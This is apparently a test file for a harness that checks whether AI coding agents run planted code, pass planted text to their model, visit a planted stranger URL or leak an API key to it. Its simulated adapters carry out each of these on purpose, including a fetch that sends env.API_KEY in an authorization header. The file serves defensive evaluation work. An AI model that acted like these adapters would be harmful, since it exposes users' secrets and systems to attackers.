import { appendFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Adapter, Attack, Outcome, Start, Way } from "../src/index.ts";
import { drawTable, isFailure, listFailures, runAttacks, runControls } from "../src/index.ts";

const PRINT: Way = { id: "print", asks: false, reports: true, talks: true };
const HELD: Outcome = { code: 0, stdout: "", stderr: "1 held back", isLate: false, asked: false, reported: true };

/** A loader that asks its model once, and does what a test wants. */
function loader(
  act: (start: Start) => Partial<Outcome> | void | Promise<Partial<Outcome> | void>,
  way: Partial<Way> = {},
): Adapter {
  return {
    name: "test",
    version: "1",
    ways: [{ ...PRINT, ...way }],
    async start(_way, start) {
      await fetch(`${start.provider.url}/chat/completions`, { method: "POST", body: "{}" });
      return { ...HELD, ...(await act(start)) };
    },
    trust: async () => {},
  };
}

const attack = (id: string, more: Partial<Attack> = {}): Attack => ({
  id,
  title: "a test",
  mistake: "before",
  expect: "S",
  plant: ({ write, canary }) => void write(`${id}.mjs`, canary.esm),
  control: "trusted",
  ...more,
});

async function verdict(act: Parameters<typeof loader>[0], more: Partial<Attack> = {}, way: Partial<Way> = {}) {
  const [cell] = await runAttacks(loader(act, way), { attacks: [attack("a", more)] });
  return cell?.verdict;
}

test("what holds everything back and says so has no failure", async () => {
  expect(await verdict(() => {})).toBe("S");
});

test("code that runs is seen", async () => {
  expect(await verdict(async ({ cwd }) => void (await import(join(cwd, "a.mjs"))))).toBe("ran");
});

test("words that reach the model are seen, and words on the screen", async () => {
  const plant: Attack["plant"] = ({ write, word }) => void write("word", word);
  const read = async ({ cwd }: Start) => (await import("node:fs")).readFileSync(join(cwd, "word"), "utf8");
  const tell = async (start: Start) =>
    void (await fetch(`${start.provider.url}/chat/completions`, { method: "POST", body: await read(start) }));
  expect(await verdict(tell, { plant })).toBe("steered");
  expect(await verdict(async (start) => ({ stdout: await read(start) }), { plant })).toBe("shown");
});

test("a visit to the stranger is seen, and worse when it brings a key", async () => {
  const plant: Attack["plant"] = ({ write, url }) => void write("url", url);
  const visit = (headers: (start: Start) => Record<string, string>) => async (start: Start) => {
    const { readFileSync } = await import("node:fs");
    await fetch(`${readFileSync(join(start.cwd, "url"), "utf8")}/v1`, { headers: headers(start) });
  };
  expect(
    await verdict(
      visit(() => ({})),
      { plant },
    ),
  ).toBe("reached");
  expect(
    await verdict(
      visit(({ env }) => ({ authorization: env.API_KEY ?? "" })),
      { plant },
    ),
  ).toBe("leaked");
});

test("silence, a missing question, an early end and no end are failures", async () => {
  expect(await verdict(() => ({ reported: false }))).toBe("silent");
  expect(await verdict(() => {}, { expect: "Q", trust: "content" }, { asks: true })).toBe("unasked");
  expect(await verdict(() => ({ isLate: true }))).toBe("hung");
  const ends: Adapter = { ...loader(() => {}), start: async () => HELD };
  expect((await runAttacks(ends, { attacks: [attack("a")] }))[0]?.verdict).toBe("ended");
});

test("a failure that several share is given to the one that makes it", async () => {
  const { existsSync } = await import("node:fs");
  const hangs = loader(({ cwd }) => ({ isLate: existsSync(join(cwd, "c.mjs")) }));
  const cells = await runAttacks(hangs, { attacks: ["a", "b", "c", "d", "e"].map((id) => attack(id)) });
  expect(cells.filter(isFailure).map((cell) => `${cell.attack.id} ${cell.verdict}`)).toEqual(["c hung"]);
});

test("an attack that nothing is against and that leaves no mark is found", async () => {
  const careless = loader(({ cwd, approve }) => {
    if (approve) appendFileSync(join(cwd, "..", "canary", "ran"), "a\n");
  });
  const found = await runControls(careless, {
    attacks: [
      attack("a"),
      attack("b"),
      attack("c", { control: { none: "nothing could" } }),
      attack("d", { control: { naive: ({ mark }) => mark() } }),
    ],
  });
  expect(found.map(({ attack: { id } }) => id)).toEqual(["b"]);
});

test("what no digest covers may run where the person was told so, and the table says it", async () => {
  const runs = loader(async ({ cwd }) => void (await import(join(cwd, "a.mjs"))));
  const told: Adapter = { ...runs, uncovered: async () => ["/x/.pi/extensions/a/index.ts"] };
  const attacks = [attack("a", { expect: "Q", trust: "content", isBeyondDigests: true })];
  const cells = await runAttacks(told, { attacks });
  expect(listFailures(cells)).toEqual([]);
  expect(drawTable(told, attacks, cells)).toMatch(/^a +Q\* /m);
  expect(listFailures(await runAttacks(runs, { attacks })).length).toBe(1);
});

test("the table has a row for every attack, and says why a cell is empty", () => {
  const attacks = [attack("a"), attack("b", { ways: { only: [], why: "it is a test" } })];
  const table = drawTable({ ...loader(() => {}), missing: { rpc: "there is none" } }, attacks, []);
  expect(table).toContain("– rpc: there is none");
  expect(table).toContain("· b: it is a test");
});
